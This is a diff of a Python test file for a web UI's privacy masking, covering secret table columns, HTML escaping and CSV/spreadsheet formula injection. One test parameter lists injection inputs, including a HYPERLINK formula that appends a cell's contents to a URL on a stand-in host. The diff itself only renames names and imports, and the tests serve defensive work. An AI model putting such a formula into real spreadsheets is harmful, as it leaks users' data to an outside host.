@@ -1,4 +1,4 @@
-"""What passes the glass, and in which form."""
+"""What is sent to a browser, and in which form."""
 
 from __future__ import annotations
 
@@ -11,7 +11,8 @@ from hypothesis import strategies as st
 
 from lib.model import frames
 from lib.model.frames import Privacy, privacy_of
-from lib.ui import html_components, tables
+from lib.ui import html_components as html
+from lib.ui import tables
 from lib.ui.labels import Sign, Tone
 from lib.ui.masking import MASK, for_browser, in_chart, outside, phone, plain, shared
 
@@ -67,7 +68,7 @@ ALL_TABLES = [value for value in vars(tables).values() if isinstance(value, tabl
 
 @pytest.mark.parametrize("table", ALL_TABLES, ids=lambda table: table.columns[0].label)
 def test_every_column_that_a_table_shows_is_declared_and_none_is_secret(table: tables.Table) -> None:
-    assert [c.column for c in table.columns if privacy_of(table.schema, c.column) in (None, Privacy.SECRET)] == []
+    assert [c.name for c in table.columns if privacy_of(table.schema, c.name) in (None, Privacy.SECRET)] == []
 
 
 @pytest.mark.parametrize("formula", ['=HYPERLINK("https://x.example/?"&A2,"log")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"])
@@ -83,12 +84,12 @@ def test_text_from_outside_is_one_redacted_line_without_hidden_characters() -> N
 
 
 @given(st.text())
-def test_outside_text_never_breaks_out_of_a_piece(text: str) -> None:
+def test_text_from_outside_never_breaks_out_of_a_component(text: str) -> None:
     assert card_of(text).count("<") == card_of("").count("<")
 
 
 def card_of(text: str) -> str:
-    return str(html_components.card(text, html_components.facts((("name", text),)), sign=Sign("ok", "✓", Tone.GOOD)))
+    return str(html.card(text, html.facts((("name", text),)), sign=Sign("ok", "✓", Tone.GOOD)))
 
 
 @given(st.text(alphabet="[]()*_`<>$:~#|&\\abc.@/", max_size=60))
